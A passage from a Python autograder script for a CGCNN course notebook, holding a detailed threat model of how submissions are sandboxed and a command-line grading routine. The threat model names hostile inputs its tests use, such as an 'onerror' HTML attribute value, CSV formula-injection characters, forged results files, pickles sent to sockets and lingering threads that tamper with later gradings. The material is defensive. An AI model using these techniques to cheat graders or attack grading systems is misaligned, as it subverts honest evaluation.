    lines += ["", "## What the grader resists, and what it does not", "", NOT_RESISTED.strip()]
    return "\n".join(lines) + "\n"


NOT_RESISTED = """
**Threat model.** Anything the submission's code can reach may be hostile: its kernel, its user, its
files, the processes it starts and what it sends. What lives outside that reach, and the tests that
show it (each case above is graded through Gradescope's entry point by tests/test_submissions.py):

- *The grading user* (`cgcnn_grading/sandbox.py`): the kernel runs as `cgcnn-student` (or
  `cgcnn-student-N` for gradings side by side, one grading per user at a time), no groups,
  `no_new_privs`, at most 256 processes (RLIMIT_NPROC); the autograder's folder, the upload and the
  results folder are root's alone, checked as that user, inside its box, before the notebook runs
  (test_sandbox: uid and permissions, a readable secret stops grading; `adv_reads_labels`,
  `adv_overwrites_labels`, `adv_reads_memory_*`: nothing of root's is readable, /proc/<pid>/mem of
  root's processes included).
- *One sealed box per grading* (`sandbox.Box`), kept by the operating system rather than the
  grader's code. Where namespaces work (a course's own machine, as root: `build.py grade`), bubblewrap
  gives the kernel its own PID namespace (every process and thread ends with the box), network
  namespace (loopback only: another grading's kernel cannot be found or reached), IPC and UTS
  namespaces, and a mount namespace holding only the system and Python read-only, the kernel module,
  its work directory and socket folder, its own /proc and a private /tmp: the repository, the
  autograder's folder and the results do not exist in it, so the repository's permissions are left as
  found and a virtual environment anywhere works, `.venv` inside the repository included. Where cgroups
  can be made (v1 here, v2 where mounted with the memory and pids controllers delegated), the box has
  its own cgroup: 600 MB of memory (`Limits.memory_mb`; Gradescope's container has 768 MB, and the
  grader needs its share), a pids limit, CPU time from the cgroup's accounting (every thread, ended or
  not, counts against the cell that ran), and at the end the group is frozen, killed and removed.
  In every mode the kernel speaks over Unix sockets in a folder of its own user's (mode 700), never
  TCP (whose output any local user could subscribe to), is what the out-of-memory killer takes first
  (oom_score_adj 1000, the grader -500: the grader writes results.json), and writes no file over 1 GB
  (RLIMIT_FSIZE).
  results.json's `extra_data.sandbox` (staff only) says which mode ran: `box`, `partial` or
  `fallback` (test_sandbox: a thread whose leader called pthread_exit is charged to its cell, stopped
  at its CPU limit and ended; a kernel reaches no other grading's sockets; a kernel out of memory is
  ended and grading goes on; a virtual environment inside a closed repository grades; and, graded as a
  course meets them through `build.py grade` (tests/test_isolation.py): a hollow notebook subscribing
  to every Jupyter socket in reach beside an honest grading (-j 2) hears nothing and scores 0, and a
  pthread_exit survivor left to plant an untrained fit() in the next grading of its user (-j 1) is
  ended and reported, the honest notebook keeping its marks and test MAE).
- *Without namespaces or cgroups* (Gradescope's container may refuse both; `CGCNN_SANDBOX=fallback`
  imitates it): the grading user, RLIMIT_NPROC, RLIMIT_AS (4 GB per process) and RLIMIT_FSIZE, the
  0700 socket folder, processes found and killed by uid through /proc (a leader that exited with live
  threads included, and its threads' CPU time charged), and the out-of-memory order still hold; the
  machine's loopback and /tmp are shared and files readable by other users are readable by the kernel,
  so the grader refuses to run while the grading user could read the autograder, the upload, the
  results or (locally) the repository. Gradescope runs one grading per container, which is what keeps
  gradings apart there.
- *Measured on this machine* (bubblewrap 0.8, cgroup v1, as root; test_sandbox in both modes): in a
  box, a thread left running by a child whose leader called pthread_exit is charged to its cell,
  stops it at its CPU limit and is ended; a kernel allocating past its limit is killed in its cgroup
  and the next check says so; another grading's socket folder and this machine's loopback are out of
  reach; a closed repository's `.venv` runs the kernel while the repository's files do not exist for
  it. In the fallback the same thread is charged and ended (found through /proc/PID/task), the
  allocation fails with MemoryError under RLIMIT_AS and the kernel lives on, another grading's
  socket folder is refused, but a TCP port on this machine's loopback is reachable.
- *Results*: written only by the entry point, after every process of the user has been ended; a file
  found at the start is deleted, never read (`adv_forges_results_*`: forged files and the grader's
  processes signalled; `adv_detached_forger_*`: a detached process, ended and reported).
- *No code crosses from the kernel*: answers are JSON with .npy arrays loaded with
  allow_pickle=False; otter's executor, its pickle file and its log server are not used at grading
  time (`adv_pickles_*`: pickles sent to every listening port; the marker file never appears as root's).
- *Answers are data, never objects* (`cgcnn_grading/wire.py`): the grader's Jupyter session drops,
  undecoded, a message frame over 16 MB or nested deeper than 64 (brackets counted on the bytes) and
  any frame that fails to decode, says so in the results, and grades on; a probe's answers are capped
  (24 levels, 16 MB) before decoding; an answer is plain JSON, `.npy` arrays whose header (bool,
  integer or float dtype, at most 32 dimensions, a declared size of at most 16 MiB that the data
  present matches) is checked before anything is allocated, the kernel's error text, or a type name;
  any other tag is refused, so no pymatgen or monty decoding runs as root (crystals go to the kernel
  as arrays and come back as nothing but numbers). The honest 4b answer is 0.45 MB
  (`adv_structure_answer_hollow`, `adv_huge_array_header_hollow`, `adv_deep_message_hollow`;
  tests/test_wire.py, tests/test_sandbox.py).
- *Crafted parameters*: 4b's state must be exactly the notebook's CGCNN (names and shapes from its
  `__init__`, at most atom_fea_len 256, n_conv 6, h_fea_len 1024: 18 s and 52 MB of the grader's at
  most) before any arithmetic, and the held-out set is evaluated a few crystals at a time; a
  (500000, 1, 1) `fc_out.bias`, which broadcast and OOM-killed the grader, is refused with what to
  keep (tests/test_master_tests.py).
- *No grader-side exception text in what students see*: where the grader itself raises while judging
  an answer or grading a run, students read a fixed sentence; the exception goes to the staff alone
  (`extra_data.grader_errors`, a `hidden` entry, never `after_published`, the log, and the reason
  column of `build.py grade`'s CSV) (tests/test_master_tests.py, tests/test_sandbox.py).
- *Gradescope's own files*: `/autograder/submission_metadata.json` (every earlier submission's
  results), `run_autograder` and `setup.sh` are made root's alone and proven unreadable with the
  other private paths (tests/test_sandbox.py).
- *The course CSV*: every text cell (names, emails, ids, file names, reasons) that starts with `=`,
  `+`, `-`, `@`, a tab or a CR gets a leading `'` (OWASP), control characters become `?`, numbers stay
  numbers; each upload's results folder is one plain name inside the results folder (an upload named
  `...ipynb` wrote beside it) (tests/test_bulk_grading.py).
- *Verdicts*: the master's tests run in the grading process, against stand-ins of the notebook's
  objects, with expected values from the master's solution code the user cannot read; patching
  numpy, otter or the probe in the kernel only changes the kernel's own answers (`adv_patched_*`,
  `adv_repatched_before_checks`, `adv_fake_grader`, `adv_overwrites_tests`, `adv_swaps_verdicts_*`;
  tests/test_master_tests.py).
- *What was checked is what is scored*: each part's tests run in place of its check cell
  (`adv_retrains_after_check_*`: a model trained after 4b's check changes nothing).
- *Part 4b*: the held-out crystals never reach the kernel; the grader predicts them itself with its
  own CGCNN (the master's) and the trained parameters, and only when 2b, 3 and 4a show that network to be the
  notebook's (`adv_lookup_table*`: a table of labels sent with or instead of the model changes
  nothing; `q2b_*`, `q3_*`, `q4a_*`: 4b not scored when the network is not the notebook's).
- *The written questions' PDF* (`python build.py pdf` prints every submission as root): the
  notebook is rebuilt from what the PDF shows, output metadata reduced to an image's width and
  height as numbers (a `width` of `1 onerror=...` ran a script), each output cut at 100,000
  characters and the whole at 4 million, the PDF saying where; Markdown and HTML keep text, tables
  and inline `data:` images (`cgcnn_utils._printable`, `_clean_html`). The page is served from memory
  at an `http:` origin (no `file:` URL loads from it) under a Content-Security-Policy (scripts only
  MathJax's files, no inline script or handler, images only `data:`, no frames, objects or
  connections), every other request refused. Chromium runs as `cgcnn-pdf`, inside bubblewrap (no
  network, no file of the course's: only `/usr`, the fonts' configuration and a private `/tmp`),
  its own sandbox on; each PDF has a time limit, after which the batch goes on and names it
  (`build.pdf_browser`, `PDFWorker`). Where bubblewrap or user namespaces are refused, the batch says
  which layer is off and the others hold (tests/test_pdf_hostile.py: the onerror width framing the
  hidden checks and calibration.json through /proc/self/cwd, Markdown and HTML images of local files,
  a 20 MB output: neither the text nor the image of the secrets planted outside the submission in
  the PDF, the honest content kept, within the limit; the policy holding with the cleaning undone, the box holding no file of the course's, the
  page holding without bubblewrap).

**Not resisted:**

- *Copying someone else's work*: code, or the trained weights of another student's correct network
  pasted into a notebook whose own parts 2b, 3 and 4a are right. The checks test behaviour, and
  weights are numbers a correct network may have learnt anywhere; plagiarism checks are separate.
"""


def main(argv: list[str]) -> int:
    if argv[:1] == ["grade"]:
        import argparse
        import tempfile
        parser = argparse.ArgumentParser(prog="submissions.py grade")
        parser.add_argument("names", nargs="*", help="cases to grade (default: all)")
        parser.add_argument("--zip", type=Path, default=build.AUTOGRADER_ZIP, help="the autograder zip")
        parser.add_argument("--keep", type=Path, help="write each results.json here as NAME.json; skip those there")
        parser.add_argument("--workers", type=int, default=WORKERS)
        parser.add_argument("--record", action="store_true", help=f"write the test MAEs into {MEASURED_FILE.name}")
        args = parser.parse_args(argv[1:])
        chosen = [c for c in CASES if c.name in args.names] if args.names else CASES
        with tempfile.TemporaryDirectory() as tmp:
            graded = grade_all(chosen, Path(tmp), args.zip, args.workers, args.keep)
        for case in chosen:
            results, seconds = graded[case.name]
            if isinstance(results, Exception):
                print(case.name, "not graded:", repr(results)[:1000])
                continue
            got = build.scores(results)
            print(f"{case.name} ({seconds:.0f} s)", {q: got.get(q) for q in POINTS}, "test MAE", test_mae(results),
                  "as expected:", case.expected == {q: got.get(q, 0) for q in POINTS})
            print("   ", outputs(results)[-600:].replace("\n", " | "))
        if args.record:
            record = dict(MEASURED_MAE)
            for name, (results, _) in graded.items():
                if isinstance(results, dict) and test_mae(results) is not None:
                    record[name] = round(test_mae(results), 4)
                elif isinstance(results, dict):
                    record.pop(name, None)  # graded, and no longer given a test MAE
            MEASURED_FILE.write_text(json.dumps(dict(sorted(record.items())), indent=1) + "\n")
        return 0
    DOC.parent.mkdir(exist_ok=True)
    DOC.write_text(table())
    print(f"wrote {DOC.relative_to(ROOT)}: {len(CASES)} cases")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
